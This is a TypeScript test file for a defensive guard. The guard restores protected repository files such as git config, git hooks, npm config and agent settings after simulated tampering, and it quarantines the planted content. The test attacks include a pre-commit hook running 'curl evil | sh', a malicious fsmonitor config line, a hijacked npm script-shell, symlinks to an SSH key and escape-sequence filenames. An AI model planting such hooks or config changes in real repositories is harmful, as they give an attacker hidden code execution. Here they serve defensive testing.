/**
 * keep guards: a file, a directory, a symlink, a name that must stay
 * absent; each attack made on a scratch tree, then judged on disk: the
 * original is back byte for byte, what was planted is in the quarantine and
 * not at the path, nothing outside changed.
 */
import * as fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import { gitRepo, keep, listing, runAttack, scratch, tree } from './helpers.js';

describe('keep file', () => {
  it('puts changed content back and keeps the change for review', () => {
    const s = scratch();
    gitRepo(s.p);
    const cfg = `${s.p}/.git/config`;
    const before = fs.readFileSync(cfg);
    const r = runAttack(s, [keep(cfg, 'file', 'git config')], () => fs.appendFileSync(cfg, '\tfsmonitor = evil\n'));
    expect(fs.readFileSync(cfg).equals(before)).toBe(true);
    expect(fs.readFileSync(`${s.qdir}${cfg}`, 'utf8')).toContain('fsmonitor = evil');
    expect(r.changes).toEqual([{ what: 'changed', path: cfg, why: 'git config', action: 'restored', kept: `${s.qdir}${cfg}` }]);
    expect(r.quarantine).toBe(s.qdir);
    expect(fs.statSync(s.qdir).mode & 0o777).toBe(0o700);
  });

  it('sees a change of content alone (same size, same mode, same inode)', () => {
    const s = scratch();
    tree(s.p, { '.npmrc': 'script-shell=/bin/sh\n' });
    const f = `${s.p}/.npmrc`;
    const r = runAttack(s, [keep(f, 'file', 'npm config')], () => {
      const fd = fs.openSync(f, 'r+');
      fs.writeSync(fd, 'script-shell=/evil/x\n', 0);
      fs.closeSync(fd);
    });
    expect(fs.readFileSync(f, 'utf8')).toBe('script-shell=/bin/sh\n');
    expect(fs.readFileSync(`${s.qdir}${f}`, 'utf8')).toBe('script-shell=/evil/x\n');
    expect(r.changes).toHaveLength(1);
  });

  it('reports nothing and makes no quarantine when nothing changed', () => {
    const s = scratch();
    gitRepo(s.p);
    const r = runAttack(s, [keep(`${s.p}/.git/config`, 'file')], () => {});
    expect(r.changes).toEqual([]);
    expect(fs.existsSync(s.qroot)).toBe(false);
  });

  it('takes a rewrite with the same content and mode (git\'s lock and rename) as unchanged', () => {
    const s = scratch();
    gitRepo(s.p);
    const cfg = `${s.p}/.git/config`;
    const r = runAttack(s, [keep(cfg, 'file')], () => {
      fs.writeFileSync(`${cfg}.lock`, fs.readFileSync(cfg));
      fs.chmodSync(`${cfg}.lock`, fs.statSync(cfg).mode & 0o777);
      fs.renameSync(`${cfg}.lock`, cfg);
    });
    expect(r.changes).toEqual([]);
  });

  it('puts the mode back', () => {
    const s = scratch();
    tree(s.p, { '.envrc': { text: 'export A=1\n', mode: 0o644 } });
    const f = `${s.p}/.envrc`;
    const r = runAttack(s, [keep(f, 'file')], () => fs.chmodSync(f, 0o4755));
    expect(fs.statSync(f).mode & 0o7777).toBe(0o644);
    expect(r.changes[0]).toMatchObject({ what: 'changed', action: 'restored' });
  });

  it('breaks a hardlink made to the file (a later write elsewhere would change it)', () => {
    const s = scratch();
    gitRepo(s.p);
    const cfg = `${s.p}/.git/config`;
    const before = fs.readFileSync(cfg);
    runAttack(s, [keep(cfg, 'file')], () => fs.linkSync(cfg, `${s.p}/innocent`));
    expect(fs.statSync(cfg).nlink).toBe(1);
    fs.writeFileSync(`${s.p}/innocent`, 'evil');
    expect(fs.readFileSync(cfg).equals(before)).toBe(true);
  });

  it('moves a symlink planted at the path aside without touching its target', () => {
    const s = scratch();
    gitRepo(s.p);
    const cfg = `${s.p}/.git/config`;
    const before = fs.readFileSync(cfg);
    const outside = listing(s.outside);
    runAttack(s, [keep(cfg, 'file')], () => {
      fs.rmSync(cfg);
      fs.symlinkSync(`${s.outside}/id_ed25519`, cfg);
    });
    expect(fs.lstatSync(cfg).isFile()).toBe(true);
    expect(fs.readFileSync(cfg).equals(before)).toBe(true);
    expect(fs.readlinkSync(`${s.qdir}${cfg}`)).toBe(`${s.outside}/id_ed25519`);
    expect(listing(s.outside)).toEqual(outside);
  });

  it('moves a planted FIFO aside without opening it (jail must not hang)', () => {
    const s = scratch();
    gitRepo(s.p);
    const cfg = `${s.p}/.git/config`;
    const before = fs.readFileSync(cfg);
    const r = runAttack(s, [keep(cfg, 'file')], () => {
      fs.rmSync(cfg);
      mkfifo(cfg);
    });
    // Checked first: reading a FIFO left in place would hang the test.
    expect(fs.lstatSync(cfg).isFile()).toBe(true);
    expect(fs.readFileSync(cfg).equals(before)).toBe(true);
    expect(fs.lstatSync(`${s.qdir}${cfg}`).isFIFO()).toBe(true);
    expect(r.changes[0]).toMatchObject({ what: 'replaced', action: 'restored' });
  });

  it('puts a removed file back', () => {
    const s = scratch();
    gitRepo(s.p);
    const cfg = `${s.p}/.git/config`;
    const before = fs.readFileSync(cfg);
    const r = runAttack(s, [keep(cfg, 'file')], () => fs.rmSync(cfg));
    expect(fs.readFileSync(cfg).equals(before)).toBe(true);
    expect(r.changes[0]).toMatchObject({ what: 'removed', action: 'restored' });
  });

  it('past the budget: keeps stat data only; a change is quarantined and said to be unrestorable', () => {
    const s = scratch();
    tree(s.p, { '.npmrc': 'x'.repeat(4096), '.yarnrc': 'small' });
    const big = `${s.p}/.npmrc`;
    const small = `${s.p}/.yarnrc`;
    const r = runAttack(
      s,
      [keep(big, 'file', 'npm config'), keep(small, 'file', 'yarn config')],
      () => {
        fs.writeFileSync(big, 'y'.repeat(4096));
        fs.writeFileSync(small, 'evil');
      },
      { bytes: 100, entries: 10 },
    );
    expect(fs.existsSync(big)).toBe(false);
    expect(fs.readFileSync(`${s.qdir}${big}`, 'utf8')).toBe('y'.repeat(4096));
    expect(fs.readFileSync(small, 'utf8')).toBe('small');
    expect(r.changes).toContainEqual(expect.objectContaining({ path: big, action: 'could-not-restore', note: 'too large to keep' }));
  });
});

describe('keep dir', () => {
  const hooksOf = (p: string) => `${p}/.git/hooks`;

  it('removes a new hook, puts a changed and a removed one back', () => {
    const s = scratch();
    gitRepo(s.p);
    const hooks = hooksOf(s.p);
    const before = listing(hooks);
    const r = runAttack(s, [keep(hooks, 'dir', 'git hooks')], () => {
      fs.writeFileSync(`${hooks}/pre-commit`, '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
      fs.appendFileSync(`${hooks}/update.sample`, 'evil\n');
      fs.rmSync(`${hooks}/pre-push.sample`);
    });
    expect(listing(hooks)).toEqual(before);
    const kept = fs.statSync(`${s.qdir}${hooks}/pre-commit`);
    expect(kept.mode & 0o111).toBe(0); // no execute bit in the quarantine
    expect(fs.readFileSync(`${s.qdir}${hooks}/pre-commit`, 'utf8')).toContain('curl evil');
    expect(r.changes.map((c) => [c.what, c.path.slice(hooks.length + 1), c.action]).sort()).toEqual([
      ['changed', 'update.sample', 'restored'],
      ['created', 'pre-commit', 'removed'],
      ['removed', 'pre-push.sample', 'restored'],
    ]);
  });

  it('rebuilds the directory replaced by a symlink to ~/.ssh, and never writes through it', () => {
    const s = scratch();
    gitRepo(s.p);
    const hooks = hooksOf(s.p);
    const before = listing(hooks);
    const outside = listing(s.outside);
    const r = runAttack(s, [keep(hooks, 'dir', 'git hooks')], () => {
      fs.rmSync(hooks, { recursive: true });
      fs.symlinkSync(s.outside, hooks);
    });
    expect(fs.lstatSync(hooks).isDirectory()).toBe(true);
    expect(listing(hooks)).toEqual(before);
    expect(listing(s.outside)).toEqual(outside);
    expect(fs.readlinkSync(`${s.qdir}${hooks}`)).toBe(s.outside);
    expect(r.changes).toEqual([expect.objectContaining({ what: 'replaced', path: hooks, action: 'restored' })]);
  });

  it('rebuilds the directory replaced by a file, or by another directory', () => {
    for (const plant of ['file', 'dir'] as const) {
      const s = scratch();
      gitRepo(s.p);
      const hooks = hooksOf(s.p);
      const before = listing(hooks);
      runAttack(s, [keep(hooks, 'dir')], () => {
        fs.renameSync(hooks, `${s.p}/elsewhere`);
        if (plant === 'file') fs.writeFileSync(hooks, 'x');
        else tree(hooks, { 'pre-commit': 'evil', ...Object.fromEntries(Object.keys(before).map((n) => [n, fs.readFileSync(`${s.p}/elsewhere/${n}`, 'utf8')])) });
      });
      expect(listing(hooks)).toEqual(before);
      expect(fs.lstatSync(`${s.qdir}${hooks}`).isDirectory()).toBe(plant === 'dir');
    }
  });

  it('removes entries with odd names (newline, escape, not UTF-8)', () => {
    const s = scratch();
    gitRepo(s.p);
    const hooks = hooksOf(s.p);
    const before = listing(hooks);
    const odd = ['pre-commit\nfake line', '\x1b]0;owned\x07', 'a\u202eb'];
    const r = runAttack(s, [keep(hooks, 'dir', 'git hooks')], () => {
      for (const n of odd) fs.writeFileSync(`${hooks}/${n}`, 'evil');
      fs.writeFileSync(Buffer.concat([Buffer.from(`${hooks}/`), Buffer.from([0xff, 0xfe, 0x41])]), 'evil');
    });
    expect(listing(hooks)).toEqual(before);
    expect(fs.readdirSync(`${s.qdir}${hooks}`, { encoding: 'buffer' }).length).toBe(4);
    expect(r.changes.filter((c) => c.what === 'created')).toHaveLength(4);
  });

  it('restores a subdirectory mode and a symlink inside', () => {
    const s = scratch();
    tree(s.p, { '.vscode/settings.json': '{}', '.vscode/link': { link: 'settings.json' }, '.vscode/sub/x': 'x' });
    const dir = `${s.p}/.vscode`;
    const before = listing(dir);
    runAttack(s, [keep(dir, 'dir')], () => {
      fs.chmodSync(`${dir}/sub`, 0o777);
      fs.rmSync(`${dir}/link`);
      fs.symlinkSync(s.outside, `${dir}/link`);
    });
    expect(listing(dir)).toEqual(before);
  });

  it('puts a removed directory back whole', () => {
    const s = scratch();
    gitRepo(s.p);
    const hooks = hooksOf(s.p);
    const before = listing(hooks);
    runAttack(s, [keep(hooks, 'dir')], () => fs.rmSync(hooks, { recursive: true }));
    expect(listing(hooks)).toEqual(before);
  });
});

describe('keep symlink and absent', () => {
  it('puts a symlink\'s target back', () => {
    const s = scratch();
    tree(s.p, { '.husky': { link: 'tools/husky' } });
    const l = `${s.p}/.husky`;
    runAttack(s, [keep(l, 'symlink')], () => {
      fs.rmSync(l);
      fs.symlinkSync(s.outside, l);
    });
    expect(fs.readlinkSync(l)).toBe('tools/husky');
    expect(fs.readlinkSync(`${s.qdir}${l}`)).toBe(s.outside);
  });

  it('moves whatever appears at an absent name aside: a file, a directory, a dangling symlink', () => {
    const s = scratch();
    gitRepo(s.p);
    const names = ['commondir', 'config.worktree', 'info/attributes'].map((n) => `${s.p}/.git/${n}`);
    const r = runAttack(s, names.map((n) => keep(n, 'absent', 'git')), () => {
      fs.writeFileSync(names[0]!, '/tmp/evil');
      fs.mkdirSync(names[1]!);
      fs.mkdirSync(`${s.p}/.git/info`);
      fs.symlinkSync('/nonexistent', names[2]!);
    });
    for (const n of names) expect(fs.existsSync(n) || isLink(n)).toBe(false);
    expect(fs.readFileSync(`${s.qdir}${names[0]}`, 'utf8')).toBe('/tmp/evil');
    expect(r.changes).toHaveLength(3);
    expect(fs.existsSync(`${s.p}/.git/info`)).toBe(true); // not guarded: stays
  });

  it('takes a symlinked ancestor of an absent name as planted and moves it aside', () => {
    const s = scratch();
    gitRepo(s.p);
    tree(s.outside, { 'evil/settings.json': '{"hooks": "evil"}' });
    const target = `${s.p}/.claude/settings.json`;
    const outside = listing(s.outside);
    runAttack(s, [keep(target, 'absent', 'agent settings')], () => fs.symlinkSync(`${s.outside}/evil`, `${s.p}/.claude`));
    expect(isLink(`${s.p}/.claude`)).toBe(false);
    expect(fs.existsSync(`${s.p}/.claude`)).toBe(false);
    expect(listing(s.outside)).toEqual(outside);
  });
});

const isLink = (p: string) => fs.lstatSync(p, { throwIfNoEntry: false })?.isSymbolicLink() ?? false;

function mkfifo(p: string): void {
  const r = require('node:child_process').spawnSync('mkfifo', [p]) as { status: number };
  if (r.status !== 0) throw new Error('mkfifo failed');
}
